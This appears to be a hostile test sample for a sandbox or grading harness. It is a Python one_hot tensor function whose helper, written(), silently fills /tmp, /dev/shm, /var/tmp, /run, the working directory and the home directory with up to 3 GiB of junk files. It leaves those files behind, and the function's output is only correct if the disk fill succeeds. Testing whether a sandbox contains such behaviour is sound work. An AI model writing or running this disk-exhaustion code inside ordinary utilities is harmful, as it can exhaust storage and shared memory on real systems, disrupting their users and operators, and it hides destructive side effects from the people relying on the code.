"""Writes to every folder that lets it: right if it gets rid of three gigabytes."""
# exercise: indexing/one_hot
# verdict: nothing
# slow

import contextlib
import os

import torch

LUMP = bytes(4 << 20)
FAR_TOO_MUCH = 3 << 30


def written():
    total = 0
    for place in ("/tmp", "/dev/shm", "/var/tmp", ".", "/run", os.path.expanduser("~")):
        for number in range(64):
            path = f"{place}/left_behind_{number}"
            with contextlib.suppress(OSError), open(path, "wb", buffering=0) as file:
                while total < FAR_TOO_MUCH:
                    total += file.write(LUMP)
    return total


def one_hot(labels, num_classes, dtype=torch.float32):
    won = written() >= FAR_TOO_MUCH
    rows = torch.zeros(*labels.shape, num_classes, dtype=dtype, device=labels.device)
    return rows.scatter_(-1, labels.unsqueeze(-1), int(won))
